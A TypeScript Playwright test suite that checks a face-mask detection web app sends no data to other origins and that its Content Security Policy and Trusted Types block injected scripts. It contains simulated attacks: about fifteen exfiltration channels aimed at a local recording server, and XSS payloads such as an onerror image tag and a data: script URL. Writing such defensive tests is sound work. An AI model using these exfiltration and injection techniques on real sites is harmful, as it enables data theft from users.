import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchChromium } from '../harness/chromium.ts';
import { type CameraFile, writeCameraFile } from '../harness/fake-camera.ts';
import { barePhotographs, type Photograph } from '../harness/photographs.ts';

const site = inject('siteUrl');
const LIMIT_MS = 180_000;
const PAGES = ['/', '/stills', '/kiosk', '/about', '/report', '/notice', '/nowhere'];
/** Time allowed for anything that a page tries to send to arrive, ms. */
const ARRIVAL_MS = 1500;

const [photograph] = barePhotographs() as [Photograph];
let camera: CameraFile;
let browser: Browser;
/** Another origin, which answers and records requests. */
let other: Server;
let otherUrl: string;
const arrived: string[] = [];

beforeAll(async () => {
  camera = await writeCameraFile([{ photograph, seconds: 1 }]);
  browser = await launchChromium({ camera: camera.path });
  other = createServer((request, response) => {
    arrived.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
  });
  other.on('upgrade', (request, socket) => {
    arrived.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  otherUrl = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await browser.close();
  await camera.remove();
  other.close();
});

/** A visitor whose camera is allowed. Every page records its policy violations. */
async function newVisitor(): Promise<{ context: BrowserContext; violations: string[] }> {
  const context = await browser.newContext({ locale: 'en-US', permissions: ['camera'] });
  const violations: string[] = [];
  await context.exposeFunction('noteViolation', (text: string) => violations.push(text));
  await context.addInitScript(() => {
    addEventListener('securitypolicyviolation', (event) => {
      const { effectiveDirective, blockedURI } = event as SecurityPolicyViolationEvent;
      const { noteViolation } = globalThis as unknown as { noteViolation(text: string): void };
      noteViolation(`${effectiveDirective} ${blockedURI}`);
    });
  });
  return { context, violations };
}

/** Visits the pages, each until it has judged a face or shows its content. */
async function wholeVisit(context: BrowserContext): Promise<Page> {
  const page = await context.newPage();
  await page.goto(`${site}/`);
  await page.getByRole('button', { name: /start/i }).first().click();
  await page
    .locator('[data-engine] [data-face]')
    .first()
    .waitFor({ state: 'attached', timeout: LIMIT_MS });

  await page.goto(`${site}/kiosk?showCounts=true`);
  await page.locator('[data-kiosk-state="no-mask"]').waitFor({ timeout: LIMIT_MS });

  await page.goto(`${site}/stills`);
  await page.locator('[data-engine]').waitFor({ timeout: LIMIT_MS });
  await page
    .locator('input[type=file][multiple]')
    .setInputFiles({ name: 'one.png', mimeType: 'image/png', buffer: await photograph.load() });
  await page.locator('[data-done="1"]').waitFor({ timeout: LIMIT_MS });

  for (const name of ['/report', '/about']) {
    await page.goto(site + name);
    await page.getByRole('heading', { level: 1 }).waitFor();
  }
  return page;
}

describe('a whole visit', () => {
  it('asks no other origin, breaks no rule of the policy, and leaves numbers and settings only', async () => {
    const { context, violations } = await newVisitor();
    const asked: string[] = [];
    context.on('request', (request) => asked.push(request.url()));
    const page = await wholeVisit(context);
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null, undefined, {
      timeout: LIMIT_MS,
    });

    const origins = new Set(asked.map((url) => new URL(url)).map(originOf));
    expect([...origins]).toEqual([new URL(site).origin]);
    expect(asked.length).toBeGreaterThan(30);
    expect(violations).toEqual([]);
    const models = asked.flatMap((url) => /\/models\/\w+\/([\w-]+)\//.exec(url)?.[1] ?? []);
    expect(new Set(models)).toEqual(new Set(['face-finder', 'mask-classifier']));

    const kept = await page.evaluate(readEverythingKept);
    expect(kept.records.length).toBeGreaterThan(0);
    for (const { value } of [...kept.records, ...kept.storage]) {
      expect(pictureLike(value)).toEqual([]);
    }
    // The caches hold only what the server gives to every visitor.
    const served = await Promise.all(kept.cached.map(async (url) => (await fetch(url)).status));
    expect(new Set(served)).toEqual(new Set([200]));
    expect(kept.files).toEqual([]);
    expect(await context.cookies()).toEqual([]);
    await context.close();
  });
});

/** Blobs and inline pictures never leave the page. */
function originOf(url: URL): string {
  return url.protocol === 'blob:' || url.protocol === 'data:' ? new URL(site).origin : url.origin;
}

/** Longest text that a record or a setting has; a picture of 16 x 16 px is longer. */
const LONGEST_TEXT = 500;

/** Parts of a value that could hold a picture: binary data, long texts, long lists. */
function pictureLike(value: unknown): unknown[] {
  if (typeof value === 'string') {
    return value.length > LONGEST_TEXT || /data:|base64/.test(value) ? [value] : [];
  }
  if (typeof value !== 'object' || value === null) return [];
  const entries = Object.values(value);
  if (entries.length > LONGEST_TEXT) return [value];
  return entries.flatMap(pictureLike);
}

/** Runs in the page. Binary data in a record becomes the text `data:binary`. */
async function readEverythingKept() {
  const plain = (value: unknown): unknown => {
    if (value instanceof Blob || value instanceof ArrayBuffer || ArrayBuffer.isView(value)) {
      return 'data:binary';
    }
    if (Array.isArray(value)) return value.map(plain);
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([key, entry]) => [key, plain(entry)]));
  };
  const done = <T>(request: IDBRequest<T>) =>
    new Promise<T>((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
  const records: { value: unknown }[] = [];
  for (const { name = '' } of await indexedDB.databases()) {
    const database = await done(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      const all = database.transaction(store).objectStore(store).getAll();
      for (const value of await done<unknown[]>(all)) records.push({ value: plain(value) });
    }
    database.close();
  }
  const storage = [...Object.values(localStorage), ...Object.values(sessionStorage)].map(
    (value) => ({ value: value as unknown }),
  );
  const cached: string[] = [];
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const { url } of await cache.keys()) cached.push(url);
  }
  const files: string[] = [];
  const folder = await navigator.storage.getDirectory();
  for await (const name of (folder as unknown as { keys(): AsyncIterable<string> }).keys()) {
    files.push(name);
  }
  return { records, storage, cached, files };
}

describe.each(PAGES)('the policy of %s', (name) => {
  it('lets no pixel out and runs no script that the build did not write', async () => {
    const { context, violations } = await newVisitor();
    const page = await context.newPage();
    await page.goto(site + name);
    await page.waitForTimeout(500);
    expect(violations).toEqual([]);

    arrived.length = 0;
    const tried = await page.evaluate(sendOut, otherUrl);
    await page.waitForTimeout(ARRIVAL_MS);
    expect(arrived).toEqual([]);
    expect(tried).toBeGreaterThanOrEqual(15);
    expect(violations.length).toBeGreaterThanOrEqual(tried);
    expect(await page.evaluate('globalThis.injected ?? null')).toBeNull();
    await context.close();
  });
});

/** Runs in the page, like an injected script: tries each way to send data out. @returns how many */
async function sendOut(to: string): Promise<number> {
  const pixels = new Uint8Array(16).fill(7);
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    document.body.append(element);
    return element;
  };
  const ways: (() => unknown)[] = [
    () => fetch(`${to}/fetch`, { method: 'POST', mode: 'no-cors', body: pixels }),
    () => {
      const request = new XMLHttpRequest();
      request.open('POST', `${to}/xhr`);
      request.send(pixels);
    },
    () => navigator.sendBeacon(`${to}/beacon`, pixels),
    () => new WebSocket(`${to.replace('http', 'ws')}/socket`),
    () => new EventSource(`${to}/events`),
    () => add('img', { src: `${to}/image?${pixels.join()}` }),
    () => add('iframe', { src: `${to}/frame` }),
    () => add('link', { rel: 'stylesheet', href: `${to}/style` }),
    () => add('script', { src: `${to}/script` }),
    () => {
      add('style', {}).textContent = `body { background: url(${to}/background?${pixels.join()}) }`;
    },
    () => add('video', { src: `${to}/video` }),
    () => {
      const form = add('form', { action: `${to}/form`, method: 'POST' }) as HTMLFormElement;
      form.submit();
    },
    () => {
      add('script', {}).textContent = 'globalThis.injected = true';
    },
    () => add('img', { src: 'x:', onerror: 'globalThis.injected = true' }),
    // biome-ignore lint/security/noGlobalEval: it must fail
    () => globalThis.eval('globalThis.injected = true'),
  ];
  for (const way of ways) {
    // Runs from a timer, like the page's own scripts: code that a debugger runs may use `eval`.
    await new Promise<void>((resolve) => {
      setTimeout(async () => {
        try {
          await way();
        } catch {
          // Refused with an exception; the others are refused without one.
        }
        resolve();
      });
    });
  }
  return ways.length;
}

describe.each(PAGES)('trusted types of %s', (name) => {
  it('refuse text that becomes markup or a script, and scripts of another origin', async () => {
    const { context, violations } = await newVisitor();
    const page = await context.newPage();
    await page.goto(site + name);
    expect(violations).toEqual([]);
    const outcomes = await page.evaluate(assignText, otherUrl);
    expect(outcomes).toEqual(
      Object.fromEntries(Object.keys(outcomes).map((way) => [way, 'TypeError'])),
    );
    expect(Object.keys(outcomes).length).toBeGreaterThanOrEqual(9);
    const own = await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = '/_next/static/any.js';
      return script.src;
    });
    expect(own).toBe(`${site}/_next/static/any.js`);
    await context.close();
  });
});

/** Runs in the page: tries each way from text to a script. @returns the error name of each way */
function assignText(to: string): Record<string, string> {
  const markup = '<img src=x onerror="globalThis.injected = true">';
  const script = () => document.createElement('script');
  const ways: Record<string, () => unknown> = {
    innerHTML: () => Object.assign(document.createElement('div'), { innerHTML: markup }),
    outerHTML: () =>
      Object.assign(document.body.appendChild(document.createElement('p')), { outerHTML: markup }),
    insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', markup),
    write: () => document.write(markup),
    parse: () => new DOMParser().parseFromString(markup, 'text/html'),
    text: () => Object.assign(script(), { text: 'globalThis.injected = true' }),
    handler: () => document.body.setAttribute('onclick', 'globalThis.injected = true'),
    address: () => Object.assign(script(), { src: `${to}/script.js` }),
    data: () => Object.assign(script(), { src: 'data:text/javascript,globalThis.injected=true' }),
    worker: () => new Worker(`${to}/worker.js`),
    policy: () =>
      (
        globalThis as unknown as {
          trustedTypes: { createPolicy(name: string, rules: object): void };
        }
      ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
  };
  return Object.fromEntries(
    Object.entries(ways).map(([way, work]) => {
      try {
        work();
        return [way, 'done'];
      } catch (error) {
        return [way, (error as Error).name];
      }
    }),
  );
}

it('an engine on the page itself, with its threads, also follows the policy', async () => {
  const { context, violations } = await newVisitor();
  await context.addInitScript(() => {
    // Like a browser that cannot run the engine in a worker; the engine's threads start from blobs.
    globalThis.Worker = class extends Worker {
      constructor(address: string | URL, options?: WorkerOptions) {
        if (!String(address).startsWith('blob:')) throw new Error('No such workers here.');
        super(address, options);
      }
    };
  });
  const page = await context.newPage();
  let threads = 0;
  page.on('worker', () => {
    threads += 1;
  });
  await page.goto(`${site}/stills?backend=wasm`);
  await page.locator('[data-engine="wasm"]').waitFor({ timeout: LIMIT_MS });
  await page
    .locator('input[type=file][multiple]')
    .setInputFiles({ name: 'one.png', mimeType: 'image/png', buffer: await photograph.load() });
  await page.locator('[data-done="1"]').waitFor({ timeout: LIMIT_MS });
  expect(await page.locator('[data-face]').count()).toBeGreaterThan(0);
  expect(threads).toBeGreaterThan(0);
  expect(violations).toEqual([]);
  await context.close();
});

it('a worker that starts from a blob is held to the same policy', async () => {
  const { context } = await newVisitor();
  const page = await context.newPage();
  await page.goto(`${site}/about`);
  arrived.length = 0;
  const outcome = await page.evaluate((to) => {
    const text = `fetch('${to}/worker', { mode: 'no-cors' }).then(
      () => postMessage('sent'), () => postMessage('stopped'))`;
    const worker = new Worker(URL.createObjectURL(new Blob([text])));
    return new Promise((resolve) => {
      worker.onmessage = ({ data }) => resolve(data);
    });
  }, otherUrl);
  expect(outcome).toBe('stopped');
  expect(arrived).toEqual([]);
  await context.close();
});
